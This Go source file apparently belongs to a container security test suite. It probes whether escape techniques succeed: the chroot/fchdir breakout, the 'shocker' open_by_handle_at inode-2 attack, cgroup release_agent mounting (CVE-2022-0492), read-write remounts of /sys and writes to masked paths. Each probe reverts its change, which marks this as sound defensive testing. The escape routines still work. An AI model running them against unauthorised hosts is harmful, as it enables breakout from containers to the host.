package escapes

import (
	"bufio"
	"encoding/binary"
	"fmt"
	"os"
	"strings"

	"golang.org/x/sys/unix"
)

// The container's root and its mounts: mount, umount, pivot_root, chroot,
// file handles, and what a rootfs with symlinks led to.

func init() {
	register("mount-tmpfs", "mount a tmpfs (unmounted at once)", true, func() result {
		dir, err := scratchDir("/tmp/md-security-mnt")
		if err != nil {
			return failed(err, "mkdir")
		}
		defer os.Remove(dir)
		if err := unix.Mount("tmpfs", dir, "tmpfs", 0, "size=4k"); err != nil {
			return failed(err, "")
		}
		_ = unix.Unmount(dir, unix.MNT_DETACH)
		return ok("mounted (unmounted at once)")
	})
	register("mount-cgroup", "CVE-2022-0492: mount a cgroup v1 hierarchy read-only (release_agent; unmounted at once)", true, func() result {
		dir, err := scratchDir("/tmp/md-security-cg")
		if err != nil {
			return failed(err, "mkdir")
		}
		defer os.Remove(dir)
		if err := unix.Mount("cgroup", dir, "cgroup", unix.MS_RDONLY|unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, "memory"); err != nil {
			return failed(err, "")
		}
		_, raErr := os.Stat(dir + "/release_agent")
		_ = unix.Unmount(dir, unix.MNT_DETACH)
		return ok("mounted read-only, release_agent visible=%s (unmounted at once)", yesNo(raErr == nil))
	})
	register("remount-sys-rw", "remount /sys read-write", true, func() result {
		return remountRW("/sys")
	})
	register("remount-proc-sys-rw", "remount /proc/sys read-write", true, func() result {
		return remountRW("/proc/sys")
	})
	register("umount-masked", "unmount a masked path (/dev/mqueue when nothing is masked)", true, umountMaskedCase)
	register("fsopen", "fsopen(\"tmpfs\") (the new mount API)", true, func() result {
		fd, err := unix.Fsopen("tmpfs", unix.FSOPEN_CLOEXEC)
		if err != nil {
			return failed(err, "")
		}
		unix.Close(fd)
		return ok("filesystem context made (closed at once)")
	})
	register("pivot-root", "pivot_root(\".\", \".\") from /", true, func() result {
		if err := unix.Chdir("/"); err != nil {
			return failed(err, "chdir /")
		}
		if err := unix.PivotRoot(".", "."); err != nil {
			return failed(err, "")
		}
		_ = unix.Unmount(".", unix.MNT_DETACH)
		_ = unix.Chdir("/")
		return ok("pivoted (old root detached)")
	})
	register("chroot-fchdir", "the fchdir trick: chroot into a subdirectory, fchdir out, chdir .. to the top, chroot there", true, chrootCase)
	register("open-by-handle", "the shocker: open_by_handle_at of the filesystem's root inode", true, openByHandleCase)
	register("root-symlinks", "where /proc, /dev and /sys of a rootfs with symlinks led", true, rootSymlinksCase)
	register("etc-probe", "whether /etc is the host's /etc (bound on a symlinked mount target)", true, func() result {
		id := os.Getenv("ESCAPE_ETC_ID")
		if id == "" {
			return refuse("ESCAPE_ETC_ID must give DEV:INO of the host's /etc")
		}
		var st unix.Stat_t
		if err := unix.Stat("/etc", &st); err != nil {
			return failed(err, "stat /etc")
		}
		where := "rootfs-etc"
		if fmt.Sprintf("%d:%d", st.Dev, st.Ino) == id {
			where = "host-etc-bound-inside"
		}
		return ok("etc=%s", where)
	})
	register("hostdir-probe", "what is mounted at /hostdir (a symlinked mount target)", true, func() result {
		var fs unix.Statfs_t
		if err := unix.Statfs("/hostdir", &fs); err != nil {
			return failed(err, "")
		}
		kind := "other"
		if fs.Type == unix.TMPFS_MAGIC {
			kind = "tmpfs"
		}
		return ok("hostdir=%s", kind)
	})
	register("masked-probe", "whether the masked files are empty and unwritable (/dev/null may be a symlink)", true, maskedProbeCase)
}

// scratchDir makes dir (if missing) for a mount attempt.
func scratchDir(dir string) (string, error) {
	if err := os.Mkdir(dir, 0o700); err != nil && !os.IsExist(err) {
		return "", err
	}
	return dir, nil
}

// remountRW asks for a read-write bind remount of path; if it is granted,
// the mount is made read-only again.
func remountRW(path string) result {
	if err := unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
		return failed(err, "")
	}
	_ = unix.Mount("", path, "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_RDONLY, "")
	return ok("remounted read-write (read-only again at once)")
}

// mountPoints lists the mount points of this mount namespace.
func mountPoints() map[string]bool {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return nil
	}
	defer f.Close()
	out := map[string]bool{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if fields := strings.Fields(sc.Text()); len(fields) > 4 {
			out[fields[4]] = true
		}
	}
	return out
}

// maskedPaths are Docker's masked paths.
var maskedPaths = []string{
	"/proc/acpi", "/proc/asound", "/proc/interrupts", "/proc/kcore",
	"/proc/keys", "/proc/latency_stats", "/proc/sched_debug", "/proc/scsi",
	"/proc/timer_list", "/proc/timer_stats", "/sys/firmware",
	"/sys/devices/virtual/powercap",
}

func umountMaskedCase() result {
	mps := mountPoints()
	target := ""
	for _, p := range maskedPaths {
		if mps[p] {
			target = p
			break
		}
	}
	if target == "" {
		target = "/dev/mqueue"
	}
	if err := unix.Unmount(target, unix.MNT_DETACH); err != nil {
		return failed(err, "%s", target)
	}
	return ok("unmounted %s", target)
}

// chrootCase: with CAP_SYS_CHROOT (Docker's default) chroot is allowed;
// what must hold is that walking up from outside the new root ends at the
// container's root, not the host's.
func chrootCase() result {
	var before unix.Stat_t
	if err := unix.Stat("/", &before); err != nil {
		return failed(err, "stat /")
	}
	dir, err := scratchDir("/tmp/md-security-chroot")
	if err != nil {
		return failed(err, "mkdir")
	}
	defer os.Remove(dir)
	rootfd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return failed(err, "open /")
	}
	defer unix.Close(rootfd)
	if err := unix.Chroot(dir); err != nil {
		return failed(err, "")
	}
	if err := unix.Fchdir(rootfd); err != nil {
		return failed(err, "fchdir")
	}
	for i := 0; i < 64; i++ {
		if err := unix.Chdir(".."); err != nil {
			return failed(err, "chdir ..")
		}
	}
	if err := unix.Chroot("."); err != nil {
		return failed(err, "chroot .")
	}
	var after unix.Stat_t
	if err := unix.Stat("/", &after); err != nil {
		return failed(err, "stat / after")
	}
	same := before.Dev == after.Dev && before.Ino == after.Ino
	marker := markerVisible("")
	escaped := !same || marker
	return ok("escaped=%s root=%s host-marker=%s", yesNo(escaped), sameOther(same), visibleWord(marker))
}

// markerVisible reports whether the host's marker file (ESCAPE_HOST_MARKER)
// can be reached: below root (a directory fd's path) or from "/".
func markerVisible(root string) bool {
	m := os.Getenv("ESCAPE_HOST_MARKER")
	if m == "" {
		return false
	}
	_, err := os.Stat(root + m)
	return err == nil
}

func sameOther(same bool) string {
	if same {
		return "same"
	}
	return "other"
}

func visibleWord(v bool) string {
	if v {
		return "visible"
	}
	return "invisible"
}

// fileidIno32Gen is the handle type of ext2/3/4 (struct fid i32: ino, gen).
const fileidIno32Gen = 1

// openByHandleCase crafts, as the shocker exploit did, a handle for inode
// 2 (the root of an ext4 filesystem) on the filesystem of the container's
// root, and opens it (read-only) through a descriptor of /. Where inode 2
// is no root (ESTALE: tmpfs, xfs), it opens the genuine handle of / instead,
// which shows that the call is allowed. escaped=yes when what opens is not
// the container's root and the host's marker is below it.
func openByHandleCase() result {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil {
		return failed(err, "name_to_handle_at /")
	}
	rootfd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return failed(err, "open /")
	}
	defer unix.Close(rootfd)
	const flags = unix.O_RDONLY | unix.O_DIRECTORY | unix.O_CLOEXEC
	crafted := "not-ext4"
	fd := -1
	if h.Type() == fileidIno32Gen {
		b := make([]byte, 8)
		binary.NativeEndian.PutUint32(b[0:], 2) // inode 2, generation 0
		fd, err = unix.OpenByHandleAt(rootfd, unix.NewFileHandle(fileidIno32Gen, b), flags)
		if err == nil {
			crafted = "inode-2-opened"
		} else {
			crafted = "inode-2-" + errnoName(errnoOf(err))
			if errnoOf(err) == unix.EPERM || errnoOf(err) == unix.EACCES {
				return failed(err, "crafted=%s", crafted)
			}
		}
	}
	if fd < 0 {
		if fd, err = unix.OpenByHandleAt(rootfd, h, flags); err != nil {
			return failed(err, "crafted=%s", crafted)
		}
	}
	defer unix.Close(fd)
	var got, root unix.Stat_t
	_ = unix.Fstat(fd, &got)
	_ = unix.Stat("/", &root)
	same := got.Dev == root.Dev && got.Ino == root.Ino
	marker := markerVisible(fmt.Sprintf("/proc/self/fd/%d", fd))
	opened := "container-root"
	if !same {
		opened = "filesystem-root"
	}
	return ok("escaped=%s opened=%s crafted=%s host-marker=%s", yesNo(!same && marker), opened, crafted, visibleWord(marker))
}

// rootSymlinksCase reports, for /proc, /dev and /sys, whether each is a
// symlink (and to where) and what filesystem is there.
func rootSymlinksCase() result {
	var parts []string
	for _, p := range []string{"/proc", "/dev", "/sys"} {
		kind := "dir"
		if l, err := os.Readlink(p); err == nil {
			kind = "symlink->" + l
		}
		var fs unix.Statfs_t
		fsName := "?"
		if err := unix.Statfs(p+"/", &fs); err == nil {
			fsName = map[int64]string{unix.PROC_SUPER_MAGIC: "proc", unix.TMPFS_MAGIC: "tmpfs", unix.SYSFS_MAGIC: "sysfs"}[fs.Type]
			if fsName == "" {
				fsName = fmt.Sprintf("%#x", fs.Type)
			}
		}
		parts = append(parts, fmt.Sprintf("%s=%s,%s", p, kind, fsName))
	}
	return ok("%s host-marker=%s", strings.Join(parts, " "), visibleWord(markerVisible("")))
}

// maskedProbeCase reads every masked file that exists and tries to open it
// for writing; if that is allowed it writes back what it read (nothing
// changes). leak=none when every masked file reads empty and none opens
// for writing with something in it.
func maskedProbeCase() result {
	var leaks, seen []string
	for _, p := range maskedPaths {
		fi, err := os.Stat(p)
		if err != nil || fi.IsDir() {
			continue
		}
		b, err := os.ReadFile(p)
		if err != nil {
			seen = append(seen, fmt.Sprintf("%s:%s", p, errnoName(errnoOf(err))))
			continue
		}
		st := fmt.Sprintf("%s:%dB", p, len(b))
		if len(b) > 0 {
			leaks = append(leaks, p+" reads "+fmt.Sprintf("%q", truncate(string(b), 40)))
		}
		if fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			if len(b) > 0 {
				_, _ = unix.Write(fd, b)
				leaks = append(leaks, p+" writable")
			}
			unix.Close(fd)
			st += ",writable"
		}
		seen = append(seen, st)
	}
	l := "none"
	if len(leaks) > 0 {
		l = strings.Join(leaks, ";")
	}
	return ok("leak=%s files=%s", l, strings.Join(seen, ","))
}

func truncate(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}
